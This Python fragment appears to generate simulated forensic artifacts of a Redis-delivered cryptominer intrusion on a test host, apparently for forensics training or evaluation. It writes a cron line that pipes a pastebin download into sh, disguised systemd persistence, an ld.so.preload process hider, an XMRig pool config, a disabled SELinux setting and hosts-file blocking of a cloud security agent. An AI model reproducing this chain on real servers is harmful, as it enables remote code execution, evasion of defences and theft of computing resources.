    paste = "".join(rng.choice("abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(8))
    period = rng.choice([15, 30, 60])
    loader = f"curl -fsSL https://pastebin.com/raw/{paste} | sh"
    if h.d.family == "debian":
        cron_path, line = f"/etc/cron.d/{rng.choice(['x', 'backup1', 'sysupd'])}", f"*/{period} * * * * root {loader}"
    else:
        cron_path, line = "/var/spool/cron/root", f"*/{period} * * * * {loader}"
    key = rng.choice(["x", "backup1", "1", "crackit"])
    value = f"\n\n{line}\n\n".encode()
    size = bytes([0x40 | len(value) >> 8, len(value) & 0xff])  # RDB 14-bit string length
    h.write(cron_path, rdb_head + bytes([0, len(key)]) + key.encode() + size + value + b"\xff" + rng.randbytes(8),
            0o644, mtime=t0)
    h.write("/var/log/redis/redis.log", "".join(
        f"{h.pid(installed)}:M {time.strftime('%d %b %Y %H:%M:%S', time.gmtime(tt))}.{rng.randrange(100, 999)} "
        f"{msg}\n" for tt, msg in ((installed + 100, "* Server initialized"), (installed + 100, "* Ready to accept "
                                                                                "connections tcp"),
                                   (t0, "* DB saved on disk"))), mtime=t0)
    _every(h, t0, period, "root", loader)
    t1 = (t0 // (period * 60) + 1) * period * 60 + 2
    h.write("/tmp/.migo", _elf(h, "bot", BOT_C, STRINGS='transfer.sh", "/etc/ld.so.preload", "setenforce 0", '
                               '"systemctl enable", "xmrig", "aliyun-service", "/etc/hosts", "protected-mode'),
            0o755, mtime=t1 + 5)
    work = rng.choice(["/tmp/.migo_worker", "/tmp/.migo_w"])
    miner = f"{work}/{rng.choice(['.migo_worker', 'xmrig'])}"
    h.write(miner, _elf(h, "miner", MINER_C), 0o755, mtime=t1 + 30)
    h.write(f"{work}/.migo_json", json.dumps({"autosave": True, "cpu": {"enabled": True}, "donate-level": 0,
                                              "pools": [{"url": _pool(h), "user": _wallet(h), "tls": True}]}),
            mtime=t1 + 31)
    unit = rng.choice(["system-kernel", "kernel-update", "systemd-sysupd"])
    h.write(f"/etc/systemd/system/{unit}.service", f"[Unit]\nDescription=System kernel service\n\n[Service]\n"
            f"ExecStart={miner} -c {work}/.migo_json\nRestart=always\n\n[Install]\nWantedBy=multi-user.target\n",
            mtime=t1 + 40)
    h.write(f"/etc/systemd/system/{unit}.timer", f"[Unit]\nDescription=System kernel timer\n\n[Timer]\nOnBootSec=5\n"
            f"OnUnitActiveSec=5\nUnit={unit}.service\n\n[Install]\nWantedBy=timers.target\n", mtime=t1 + 41)
    h.symlink(f"/etc/systemd/system/timers.target.wants/{unit}.timer", f"/etc/systemd/system/{unit}.timer",
              mtime=t1 + 42)
    h.log(t1 + 43, "systemd", f"Started {unit}.timer - System kernel timer.", 1, stream="syslog")
    h.log(t1 + 48, "systemd", f"Started {unit}.service - System kernel service.", 1, stream="syslog")
    so = rng.choice(["/usr/local/lib/libsystemd.so", "/usr/local/lib/libkernel.so"])
    h.write(so, _elf(h, "hider", HIDER_C, shared=True, NAME=os.path.basename(miner)), mtime=t1 + 50)
    h.write("/etc/ld.so.preload", so + "\n", mtime=t1 + 51)
    if h.path("/etc/selinux/config").exists() or h.d.family == "rhel":
        h.write("/etc/selinux/config", "SELINUX=disabled\nSELINUXTYPE=targeted\n", mtime=t1 + 55)
    hosts = h.path("/etc/hosts").read_text() if h.path("/etc/hosts").exists() else ""
    h.write("/etc/hosts", hosts + "".join(f"127.0.0.1 {d}\n" for d in ("update.aegis.aliyun.com",
                                                                        "jsrv.aegis.aliyun.com",
                                                                        "update2.aegis.aliyun.com")), mtime=t1 + 57)
    h.notes.append(f"migo via redis from {ip} at {time.ctime(t0)}: {cron_path}, {unit}.timer, {so}")
